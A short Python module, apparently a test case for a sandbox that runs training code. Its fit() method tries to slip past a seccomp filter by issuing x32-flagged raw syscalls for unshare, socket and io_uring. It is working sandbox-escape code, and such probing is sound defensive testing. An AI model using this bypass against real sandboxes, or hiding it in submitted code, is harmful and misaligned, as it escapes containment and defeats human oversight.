"""Makes system calls by the numbers of the x32 interface: the usual ones with one more bit.

Hopes that the filter knows only the usual numbers.
"""

import ctypes
import platform

from _base import Ignorant, attempt

VERDICT = {"status": ["complete", "failed"], "chance": True}
TIERS = {"process": "not promised: it has no filter"}
BIT = 0x40000000


class Attack(Ignorant):
    def fit(self, train, valid, report):
        libc = ctypes.CDLL(None, use_errno=True)

        def call(number, *arguments):
            if libc.syscall(ctypes.c_long(BIT | number), *arguments) < 0:
                raise OSError(ctypes.get_errno(), "refused")

        if platform.machine() == "x86_64":
            attempt("unshare", lambda: call(272, 0x10000000))
            attempt("a socket", lambda: call(41, 2, 1, 0))
            attempt("io_uring", lambda: call(425, 1, ctypes.create_string_buffer(256)))
